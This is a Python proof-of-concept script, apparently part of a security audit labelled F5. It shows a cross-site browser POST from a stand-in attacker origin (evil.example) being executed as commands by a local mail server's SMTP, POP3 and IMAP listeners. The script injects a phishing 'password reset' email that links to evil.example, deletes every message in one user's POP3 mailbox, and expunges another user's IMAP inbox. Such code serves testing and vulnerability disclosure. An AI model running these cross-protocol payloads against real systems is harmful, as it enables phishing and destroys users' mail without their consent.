# F5: the exact bytes Chrome sends for fetch("http://127.0.0.1:<port>/", {method:"POST", mode:"no-cors", body})
# (text/plain: no preflight) are executed by the SMTP, POP3 and IMAP listeners.
import json, urllib.request
from common import *
def browser_post(port, body):
    h=[b'POST / HTTP/1.1', b'Host: 127.0.0.1:%d'%port, b'Connection: keep-alive', b'Content-Length: %d'%len(body),
       b'sec-ch-ua-platform: "Linux"', b'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
       b'sec-ch-ua: "Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"', b'Content-Type: text/plain;charset=UTF-8',
       b'sec-ch-ua-mobile: ?0', b'Accept: */*', b'Origin: https://evil.example', b'Sec-Fetch-Site: cross-site', b'Sec-Fetch-Mode: no-cors',
       b'Sec-Fetch-Dest: empty', b'Referer: https://evil.example/', b'Accept-Encoding: gzip, deflate, br, zstd', b'Accept-Language: en-US,en;q=0.9']
    s=conn(port,10); s.sendall(b'\r\n'.join(h)+b'\r\n\r\n'+body); r=until(s,b'\x00never',3); s.close(); return r
api=lambda p: json.load(urllib.request.urlopen(f'http://127.0.0.1:{HTTP}{p}'))
def inject(to, subj): urllib.request.urlopen(urllib.request.Request(f'http://127.0.0.1:{HTTP}/inject', data=json.dumps({"to":to,"subject":subj,"text":"x"}).encode(), headers={'content-type':'application/json'})).read()
r=browser_post(SMTP, b'EHLO x\r\nMAIL FROM:<it@company.example>\r\nRCPT TO:<alice@example.com>\r\nDATA\r\nFrom: it@company.example\r\nSubject: Your password reset link\r\n\r\nhttp://evil.example/reset\r\n.\r\nQUIT\r\n')
print('SMTP tail:', r[-160:]); print('alice INBOX subjects:', [m['subject'] for m in api('/messages?user=alice')])
for i in range(3): inject('bob@example.com', f'keep{i}'); inject('carol@example.com', f'keep{i}')
print('bob before:', len(api('/messages?user=bob')), ' carol before:', len(api('/messages?user=carol')))
browser_post(POP3, b'USER bob\r\nPASS x\r\n'+b''.join(b'DELE %d\r\n'%i for i in range(1,20))+b'QUIT\r\n')
browser_post(IMAP, b'a LOGIN carol x\r\nb SELECT INBOX\r\nc STORE 1:* +FLAGS (\\Deleted)\r\nd EXPUNGE\r\ne LOGOUT\r\n')
print('bob after (POP3):', len(api('/messages?user=bob')), ' carol after (IMAP):', len(api('/messages?user=carol')))
